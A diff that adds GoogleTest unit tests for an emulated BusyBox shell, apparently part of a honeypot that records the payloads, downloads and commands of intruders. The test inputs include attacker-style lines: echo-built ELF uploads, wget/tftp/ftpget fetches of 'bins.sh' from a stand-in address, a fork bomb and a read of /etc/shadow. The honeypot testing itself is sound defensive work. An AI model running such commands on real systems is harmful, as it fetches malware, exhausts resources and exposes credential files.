@@ -1,0 +1,200 @@
+#include "agent/shell/shell.hpp"
+
+#include <gtest/gtest.h>
+
+#include <chrono>
+
+namespace apiary::agent::test {
+namespace {
+
+constexpr WallTime kNow = std::chrono::sys_days{std::chrono::year{2024} / 3 / 1};
+
+class ShellTest : public testing::Test {
+protected:
+    std::string say(std::string_view line) { return answer(line).output; }
+
+    Shell::Answer answer(std::string_view line) {
+        Shell::Answer answer = shell_.line(line, kNow);
+        for (const Evidence& piece : answer.evidence) {
+            if (const auto* payload = std::get_if<PayloadPiece>(&piece)) {
+                payloads_.push_back(*payload);
+            } else if (const auto* command = std::get_if<Command>(&piece)) {
+                commands_.push_back(*command);
+            }
+        }
+        return answer;
+    }
+
+    static std::shared_ptr<const ShellHost> host(std::uint64_t seed = 7, const std::string& machine = "mips") {
+        ShellHostSpec spec;
+        spec.sensorSeed = seed;
+        spec.machine = machine;
+        spec.users = {"root", "support"};
+        return ShellHost::make(spec);
+    }
+
+    std::shared_ptr<const ShellHost> host_ = host();
+    Shell shell_{host_, "root", ""};
+    std::vector<PayloadPiece> payloads_;
+    std::vector<Command> commands_;
+};
+
+TEST_F(ShellTest, AsksForTheRestOfAnUnfinishedCommand) {
+    EXPECT_EQ(shell_.prompt(), "~ # ");
+    EXPECT_EQ(say("if true; then"), "");
+    EXPECT_EQ(shell_.prompt(), "> ");
+    say("echo yes");
+    EXPECT_EQ(say("fi"), "yes\n");
+    EXPECT_EQ(shell_.prompt(), "~ # ");
+}
+
+TEST_F(ShellTest, ReportsAnUploadByEchoOnceWhenItIsUsed) {
+    say("echo -ne '\\x7f\\x45\\x4c\\x46' > /tmp/x");
+    say("echo -ne '\\x01\\x02' >> /tmp/x");
+    say("echo -ne '\\x03' >> /tmp/x");
+    EXPECT_TRUE(payloads_.empty());
+    say("chmod 777 /tmp/x");
+    ASSERT_EQ(payloads_.size(), 1U);
+    EXPECT_EQ(payloads_[0].bytes,
+              "\x7f"
+              "ELF\x01\x02\x03");
+    EXPECT_EQ(payloads_[0].name, "/tmp/x");
+    EXPECT_TRUE(payloads_[0].last);
+    EXPECT_EQ(commands_.size(), 3U) << "echo, the first of the appending ones, chmod";
+}
+
+TEST_F(ShellTest, ReportsWhatALineWritesAndRemoves) {
+    say("cd /tmp; echo evil > a; sh a; rm a");
+    ASSERT_EQ(payloads_.size(), 1U);
+    EXPECT_EQ(payloads_[0].bytes, "evil\n");
+}
+
+TEST_F(ShellTest, HandsOverWhatIsUnreportedAtTheEnd) {
+    say("echo late > /tmp/late");
+    const std::vector<Evidence> left = shell_.unreported();
+    ASSERT_EQ(left.size(), 1U);
+    EXPECT_EQ(std::get<PayloadPiece>(left[0]).bytes, "late\n");
+    EXPECT_TRUE(shell_.unreported().empty());
+}
+
+TEST_F(ShellTest, RecordsTheAddressOfADownload) {
+    say("wget http://192.0.2.7/bins.sh; tftp -g -r a.arm 192.0.2.7; ftpget -P 2121 192.0.2.7 x y");
+    ASSERT_EQ(commands_.size(), 6U);
+    EXPECT_EQ(commands_[1].verb, "fetch");
+    EXPECT_EQ(commands_[1].argument, "http://192.0.2.7/bins.sh");
+    EXPECT_EQ(commands_[3].argument, "tftp://192.0.2.7/a.arm");
+    EXPECT_EQ(commands_[5].argument, "ftp://192.0.2.7:2121/y");
+}
+
+TEST_F(ShellTest, RemembersWhatWasWrittenForTheNextVisit) {
+    say("echo canary > /tmp/c; chmod 755 /tmp/c; mkdir /var/run/d; cp /bin/busybox /tmp/bb; rm /etc/hosts");
+    const std::string memory = shell_.memory();
+    EXPECT_LE(memory.size(), Shell::kMostMemory);
+    shell_ = Shell(host_, "root", memory);
+    EXPECT_EQ(say("cat /tmp/c"), "canary\n");
+    EXPECT_EQ(say("ls -l /tmp/c | cut -c1-10"), "-rwxr-xr-x\n");
+    EXPECT_EQ(say("ls -d /var/run/d /etc/hosts"), "ls: /etc/hosts: No such file or directory\n/var/run/d\n");
+    EXPECT_EQ(say("/tmp/bb X"), "bb: applet not found\n");
+}
+
+TEST_F(ShellTest, KeepsItsMemoryBoundedWithTheNewestFiles) {
+    for (int i = 0; i < 100; ++i) {
+        shell_.line("yes $((9)) | head -n 300 > /tmp/f" + std::to_string(i), kNow + std::chrono::seconds(i));
+    }
+    const std::string memory = shell_.memory();
+    EXPECT_LE(memory.size(), Shell::kMostMemory);
+    shell_ = Shell(host_, "root", memory);
+    EXPECT_EQ(say("ls /tmp/f99"), "/tmp/f99\n");
+    EXPECT_EQ(say("wc -c < /tmp/f99"), "600\n");
+}
+
+TEST_F(ShellTest, TakesAnyBytesAsMemory) {
+    shell_ = Shell(host_, "root", "f\t777\t\t99\t/../x\t\n+\n-\t/\nf\t755\t9\t5\t/no/where\tx\nd\t9\n\x01\t\xff");
+    EXPECT_EQ(say("echo ok"), "ok\n");
+}
+
+TEST_F(ShellTest, EndsALoopThatWouldNotEnd) {
+    say("while true; do echo x; done");
+    EXPECT_LE(answer("while true; do echo x; done").output.size(), Shell::kMostOutput);
+    EXPECT_LE(answer("while true; do sleep 1; done").takes, Shell::kMostTime);
+    say(":(){ :|:& };:");
+    EXPECT_EQ(say("echo alive"), "alive\n");
+}
+
+TEST_F(ShellTest, CutsOutputThatHasNoEnd) {
+    EXPECT_LE(answer("cat /dev/urandom").output.size(), Shell::kMostOutput);
+    EXPECT_LE(answer("yes").output.size(), Shell::kMostOutput);
+    EXPECT_EQ(say("cat /dev/zero | head -c 3 | wc -c"), "3\n");
+}
+
+TEST_F(ShellTest, RefusesFilesBeyondItsDisk) {
+    say("x=$(yes abcdefgh | head -c 60000)");
+    for (int i = 0; i < 40; ++i) {
+        say("echo \"$x\" > /tmp/f" + std::to_string(i));
+    }
+    EXPECT_NE(say("echo \"$x\" > /tmp/last").find("No space left on device"), std::string::npos);
+}
+
+TEST_F(ShellTest, ReadsTheTerminalForACommand) {
+    EXPECT_EQ(say("cat > /tmp/f"), "");
+    EXPECT_EQ(shell_.prompt(), "");
+    say("one");
+    say("two");
+    EXPECT_FALSE(shell_.endOfInput(kNow).exits);
+    EXPECT_EQ(shell_.prompt(), "~ # ");
+    EXPECT_EQ(say("cat /tmp/f"), "one\ntwo\n");
+    say("read a b");
+    say("x y z");
+    EXPECT_EQ(say("echo $b $a"), "y z x\n");
+}
+
+TEST_F(ShellTest, GivesUpACommandAtControlC) {
+    say("cat");
+    shell_.interrupt();
+    EXPECT_EQ(say("echo $?"), "130\n");
+    say("for i in 1");
+    shell_.interrupt();
+    EXPECT_EQ(shell_.prompt(), "~ # ");
+}
+
+TEST_F(ShellTest, OpensAShellInsideTheShell) {
+    EXPECT_TRUE(say("sh").starts_with("\n\nBusyBox v1.35.0 ("));
+    EXPECT_EQ(say("nofile"), "sh: nofile: not found\n");
+    EXPECT_FALSE(answer("exit").exits);
+    EXPECT_TRUE(answer("exit 3").exits);
+}
+
+TEST_F(ShellTest, RefusesAUserWhatIsRoots) {
+    shell_ = Shell(host_, "support", "");
+    EXPECT_EQ(shell_.prompt(), "~ $ ");
+    EXPECT_EQ(say("cat /etc/shadow"), "cat: can't open '/etc/shadow': Permission denied\n");
+    EXPECT_EQ(say("echo x > /etc/passwd"), "-sh: can't create /etc/passwd: Permission denied\n");
+    EXPECT_EQ(say("echo x > a; cat a; id -u"), "x\n1001\n");
+}
+
+TEST_F(ShellTest, ShowsTheHeadOfAProgramForItsMachine) {
+    EXPECT_EQ(say("dd if=/bin/busybox bs=20 count=1 2>/dev/null | hexdump -C").substr(0, 58),
+              "00000000  7f 45 4c 46 01 02 01 00  00 00 00 00 00 00 00 00");
+    shell_ = Shell(host(7, "armv7l"), "root", "");
+    EXPECT_EQ(say("uname -m"), "armv7l\n");
+    EXPECT_EQ(say("dd if=/bin/busybox bs=20 count=1 2>/dev/null | tail -c 2 | hexdump -C").substr(0, 15),
+              "00000000  28 00");
+}
+
+TEST_F(ShellTest, IsTheSameMachineForTheSameSeedOnly) {
+    Shell again(host(7), "root", "");
+    Shell other(host(8), "root", "");
+    for (const char* line : {"ps", "ifconfig", "cat /proc/version", "uptime"}) {
+        const std::string here = say(line);
+        EXPECT_EQ(again.line(line, kNow).output, here) << line;
+        EXPECT_NE(other.line(line, kNow).output, here) << line;
+    }
+}
+
+TEST_F(ShellTest, LetsTheUptimeGrowWithTheClock) {
+    const auto up = [&](WallTime now) { return std::stod(shell_.line("cat /proc/uptime", now).output); };
+    EXPECT_NEAR(up(kNow + std::chrono::seconds(90)) - up(kNow), 90, 1);
+}
+
+}  // namespace
+}  // namespace apiary::agent::test
